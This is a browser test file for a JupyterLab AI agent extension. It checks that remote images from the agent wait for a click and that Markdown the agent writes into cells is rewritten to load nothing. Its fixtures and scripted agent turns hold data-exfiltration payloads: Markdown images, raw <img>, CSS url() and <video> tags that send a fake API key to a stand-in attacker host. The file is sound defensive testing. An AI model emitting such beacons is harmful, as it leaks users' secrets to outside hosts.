"""Remote images an agent shows (A2UI ``Image``, Markdown ``![]()``) send no request until the
user clicks their placeholder; hosts in ``a2ui.imageHosts`` load at once. Markdown the agent
writes into the notebook (``insert_cell``, ``edit_cell``), which JupyterLab renders at once, loads
nothing either: its remote images become links naming the host, its ``<img>``, inline styles and
``<video>`` show as text; a person's own Markdown cell still shows its image.

The "remote" host is a loopback HTTP server of this module's own (the machine has no other
network): ``127.0.0.1:<port>`` stands for an attacker's host (not in ``imageHosts``), and
``localhost:<port>``, the same server under a trusted name, for a CDN the user allowed. The page's
request log (Playwright) and the image server's own log both show what left the page.
"""

from __future__ import annotations

import json
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import nbformat
import pytest
from browser_harness import (
    CHROMIUM,
    STEP_MS,
    JupyterServer,
    NotebookPage,
    free_port,
    write_notebook,
)
from playwright.sync_api import Request, expect

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not CHROMIUM.exists(), reason=f"{CHROMIUM} is not installed"),
    pytest.mark.timeout(150),
]

# A 1x1 PNG.
PNG = bytes.fromhex(
    "89504e470d0a1a0a0000000d4948445200000001000000010806000000"
    "1f15c4890000000d49444154789c6360f8cfc0f01f0005000201e2b1d5a40000000049454e44ae426082"
)
PORT = free_port()
UNTRUSTED = f"http://127.0.0.1:{PORT}"
TRUSTED = f"http://localhost:{PORT}"
SECRET = "sk-live-0123456789"
# Markdown an agent that read SECRET writes into cells: each form that loaded at once before.
INSERTED = (
    "## Findings\n\n"
    f"The key is ![x]({UNTRUSTED}/exfil-md-image?d={SECRET}) and"
    f" <img src={UNTRUSTED}/exfil-raw-img?d={SECRET}>.\n\n"
    f'<div style="background:url({UNTRUSTED}/css-bg?d={SECRET})">Styled.</div>\n\n'
    f'<video src="{UNTRUSTED}/video?d={SECRET}"><source src="{UNTRUSTED}/video-source"></video>\n\n'
    f"From the CDN: ![cdn]({TRUSTED}/cdn-cell.png)\n"
)
EDITED = (
    f"My notes ![y]({UNTRUSTED}/exfil-md-image-2?d={SECRET})"
    f' <span style="background-image:url({UNTRUSTED}/css-bg-2)">and</span>'
    f' <IMG SRC={UNTRUSTED}/exfil-raw-img-2> <video><source src="{UNTRUSTED}/video-2"></video>'
)


def surface(surface_id: str, url: str) -> str:
    """Gaunt Sloth's A2UI v0.8 JSONL: a caption and an image."""
    messages = [
        {
            "surfaceUpdate": {
                "surfaceId": surface_id,
                "components": [
                    {
                        "id": "root",
                        "component": {"Column": {"children": {"explicitList": ["t", "pic"]}}},
                    },
                    {"id": "t", "component": {"Text": {"text": {"literalString": "Your chart"}}}},
                    {
                        "id": "pic",
                        "component": {
                            "Image": {
                                "url": {"literalString": url},
                                "description": {"literalString": "chart"},
                            }
                        },
                    },
                ],
            }
        },
        {"beginRendering": {"surfaceId": surface_id, "root": "root"}},
    ]
    return "\n".join(json.dumps(m) for m in messages)


SCRIPTS: dict[str, list[Any]] = {
    "untrusted": [
        {
            "content": "Here is your chart.",
            "toolCalls": [
                {
                    "name": "show_a2ui_surface",
                    "args": {"surfaceJsonl": surface("beacon", f"{UNTRUSTED}/a2ui.png?d={SECRET}")},
                }
            ],
        },
        f"Done. ![inline beacon]({UNTRUSTED}/md.png?d={SECRET})",
    ],
    "trusted": [
        {
            "content": "From your CDN.",
            "toolCalls": [
                {
                    "name": "show_a2ui_surface",
                    "args": {"surfaceJsonl": surface("cdn", f"{TRUSTED}/cdn.png")},
                }
            ],
        },
        f"And inline: ![cdn]({TRUSTED}/cdn-md.png)",
    ],
    # The reported exfiltration: one turn inserts a Markdown cell and edits the person's.
    "cells": [
        {
            "content": "",
            "toolCalls": [
                {"name": "insert_cell", "args": {"source": INSERTED, "cell_type": "markdown"}},
                {
                    "name": "edit_cell",
                    "args": {"cell_id": "c-notes", "cell_type": "markdown", "source": EDITED},
                },
            ],
        },
        "Written up.",
    ],
}


class ImageServer:
    """Serves the PNG at any path on 127.0.0.1:PORT and logs each path requested."""

    def __init__(self) -> None:
        self.paths: list[str] = []
        log = self.paths

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                log.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "image/png")
                self.send_header("Content-Length", str(len(PNG)))
                self.send_header("Cache-Control", "no-store")
                self.end_headers()
                self.wfile.write(PNG)

            def log_message(self, format: str, *args: Any) -> None:
                return

        self.httpd = ThreadingHTTPServer(("127.0.0.1", PORT), Handler)
        self.thread = threading.Thread(target=self.httpd.serve_forever, daemon=True)
        self.thread.start()

    def close(self) -> None:
        self.httpd.shutdown()
        self.httpd.server_close()


@pytest.fixture(scope="module")
def images() -> Iterator[ImageServer]:
    server = ImageServer()
    try:
        yield server
    finally:
        server.close()


# The suite's server, with ``a2ui.imageHosts: ["localhost"]`` in its configuration.
EXTRA_CONFIG = {"a2ui": {"imageHosts": ["localhost"]}}


def watch(nb: NotebookPage) -> list[str]:
    """Every URL the page requests from the image server, from now on."""
    seen: list[str] = []

    def on_request(req: Request) -> None:
        if f":{PORT}/" in req.url:
            seen.append(req.url)

    nb.page.on("request", on_request)
    return seen


def open_chat(nb: NotebookPage, name: str, prompt: str) -> Any:
    write_notebook(
        nb.server.root / f"{name}.ipynb", ["%load_ext gth_jupyter", f"%gth {prompt}", ""]
    )
    nb.open(f"{name}.ipynb")
    nb.run_cells(0, 1)
    return nb.ready_widget()


def test_remote_images_wait_for_a_click(
    jupyter: JupyterServer, notebook: NotebookPage, images: ImageServer
) -> None:
    jupyter.use_script("untrusted")
    del images.paths[:]  # the server outlives each test (one per app)
    requested = watch(notebook)
    root = open_chat(notebook, f"images-{jupyter.app}", "show me the chart")
    surface_el = root.locator(".gth-a2ui-surface[data-surface-id=beacon]")
    expect(surface_el).to_be_visible(timeout=STEP_MS)
    expect(root.locator(".gth-msg-assistant").last).to_contain_text("Done.", timeout=STEP_MS)
    expect(root).to_have_attribute("data-state", "idle")

    a2ui_button = surface_el.locator("button.gth-media-placeholder")
    md_button = root.locator(".gth-markdown button.gth-media-placeholder")
    expect(a2ui_button).to_contain_text("Image from 127.0.0.1")
    expect(md_button).to_contain_text("Image from 127.0.0.1")
    notebook.page.wait_for_timeout(1000)  # time for any stray request to leave
    notebook.shot("placeholders")
    assert requested == [], requested
    assert images.paths == [], images.paths
    assert root.locator(f"img[src*=':{PORT}/']").count() == 0

    # One click loads the surface's image, and only it.
    a2ui_button.click()
    img = surface_el.locator("[data-component-id=pic] img")
    expect(img).to_be_visible(timeout=STEP_MS)
    assert img.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    assert requested == [f"{UNTRUSTED}/a2ui.png?d={SECRET}"]
    assert images.paths == [f"/a2ui.png?d={SECRET}"]
    assert img.get_attribute("referrerpolicy") == "no-referrer"

    md_button.click()
    md_img = root.locator(".gth-markdown img.gth-media")
    expect(md_img).to_be_visible(timeout=STEP_MS)
    assert md_img.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    assert images.paths == [f"/a2ui.png?d={SECRET}", f"/md.png?d={SECRET}"]
    notebook.shot("loaded")
    assert not root.locator(".gth-error").count()


def test_image_hosts_load_at_once(
    jupyter: JupyterServer, notebook: NotebookPage, images: ImageServer
) -> None:
    script = jupyter.use_script("trusted")
    info = jupyter.api("GET", "gth/info")
    if "a2ui" not in info:
        pytest.skip("GET gth/info does not carry a2ui.imageHosts yet (the Python side)")
    assert info["a2ui"] == {"imageHosts": ["localhost"]}
    del images.paths[:]
    root = open_chat(notebook, f"cdn-{jupyter.app}", "show the CDN chart")
    img = root.locator(".gth-a2ui-surface[data-surface-id=cdn] [data-component-id=pic] img")
    expect(img).to_be_visible(timeout=STEP_MS)
    md_img = root.locator(".gth-markdown img.gth-media")
    expect(md_img).to_be_visible(timeout=STEP_MS)
    assert root.locator("button.gth-media-placeholder").count() == 0
    assert sorted(images.paths) == ["/cdn-md.png", "/cdn.png"]
    assert len(script.records()) == 2
    notebook.shot("trusted")


def markdown_notebook(path: Path, cells: list[tuple[str, str, str]]) -> None:
    """A notebook of (id, "code" | "markdown", source) cells."""
    nb = nbformat.v4.new_notebook()  # type: ignore[no-untyped-call]
    kernel = {"name": "python3", "display_name": "Python 3", "language": "python"}
    nb.metadata["kernelspec"] = kernel
    new = {"code": nbformat.v4.new_code_cell, "markdown": nbformat.v4.new_markdown_cell}
    nb.cells = [new[kind](source, id=cid) for cid, kind, source in cells]  # type: ignore[no-untyped-call]
    nbformat.write(nb, str(path))  # type: ignore[no-untyped-call]


def test_markdown_the_agent_writes_into_cells_loads_nothing(
    jupyter: JupyterServer, notebook: NotebookPage, images: ImageServer
) -> None:
    script = jupyter.use_script("cells")
    del images.paths[:]
    requested = watch(notebook)
    rel = f"cells-{jupyter.app}.ipynb"
    cells = [
        ("c-load", "code", "%load_ext gth_jupyter"),
        ("c-ask", "code", "%gth write up what you found"),
        ("c-notes", "markdown", "My notes."),
        ("c-mine", "markdown", "Mine:"),
    ]
    markdown_notebook(jupyter.root / rel, cells)
    notebook.open(rel)
    notebook.run_cells(0, 1)
    root = notebook.ready_widget()
    expect(root.locator(".gth-msg-assistant").last).to_contain_text("Written up.", timeout=STEP_MS)
    expect(root).to_have_attribute("data-state", "idle", timeout=STEP_MS)

    # Both cells are rendered, below the asking cell the new one, then the person's edited one.
    inserted = notebook.cells.nth(2).locator(".jp-RenderedMarkdown")
    edited = notebook.cells.nth(3).locator(".jp-RenderedMarkdown")
    expect(inserted.locator("h2")).to_contain_text("Findings", timeout=STEP_MS)
    expect(edited).to_contain_text("My notes", timeout=STEP_MS)
    # A remote image is a link naming its host; the raw HTML shows as text.
    link = inserted.locator("a", has_text="image: x (127.0.0.1)")
    expect(link).to_have_attribute("href", f"{UNTRUSTED}/exfil-md-image?d={SECRET}")
    expect(edited.locator("a", has_text="image: y (127.0.0.1)")).to_have_count(1)
    expect(inserted).to_contain_text(f"<img src={UNTRUSTED}/exfil-raw-img")
    expect(inserted).to_contain_text("<video src=")
    expect(inserted).to_contain_text('<div style="background:url(')
    expect(edited).to_contain_text("<IMG SRC=")
    # The trusted host's image loads: rendering is done once it has.
    cdn = inserted.locator(f"img[src='{TRUSTED}/cdn-cell.png']")
    expect(cdn).to_be_visible(timeout=STEP_MS)
    assert cdn.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    notebook.page.wait_for_load_state("networkidle")
    notebook.shot("agent markdown cells", notebook.cells.nth(2))
    for cell in (inserted, edited):
        loaders = "video, source, audio, picture, svg, iframe, object, embed"
        assert cell.locator(loaders).count() == 0
        assert cell.locator("[style*='url(' i], [srcset], [poster]").count() == 0
        assert cell.locator(f"img[src*='127.0.0.1:{PORT}']").count() == 0
    assert images.paths == ["/cdn-cell.png"], images.paths
    assert requested == [f"{TRUSTED}/cdn-cell.png"], requested

    # The model is told what the cells hold; the cells hold the rewritten text.
    records = script.wait_records(2)
    assert len(records) == 2, records
    results = [str(m["content"]) for m in records[-1]["messages"] if m.get("type") == "tool"]
    assert any("rewritten so that it loads nothing" in r for r in results), results
    notes = read_source(notebook, "c-notes")
    assert notes.startswith("My notes [\\[image: y (127.0.0.1)\\]](http://127.0.0.1:"), notes

    # The person's own Markdown is theirs: the image they type renders, and loads.
    mine = notebook.cells.nth(4)
    mine.locator(".jp-RenderedMarkdown").dblclick()
    editor = mine.locator(".jp-InputArea-editor .cm-content")
    expect(editor).to_be_visible()
    editor.click()
    notebook.page.keyboard.press("Control+End")
    typed = f" ![mine]({UNTRUSTED}/person.png)"
    notebook.page.keyboard.insert_text(typed)
    notebook.page.keyboard.press("Shift+Enter")
    own = mine.locator(f".jp-RenderedMarkdown img[src='{UNTRUSTED}/person.png']")
    expect(own).to_be_visible(timeout=STEP_MS)
    assert own.evaluate("i => i.decode().then(() => i.naturalWidth)") == 1
    assert images.paths == ["/cdn-cell.png", "/person.png"], images.paths
    assert read_source(notebook, "c-mine") == "Mine:" + typed


def read_source(nb: NotebookPage, cell_id: str) -> str:
    read = nb.page.evaluate(
        "() => globalThis.__gth_jupyter_notebook__.find({ cellId: 'c-ask' }).read()"
    )
    return str(next(c["source"] for c in read["cells"] if c["id"] == cell_id))
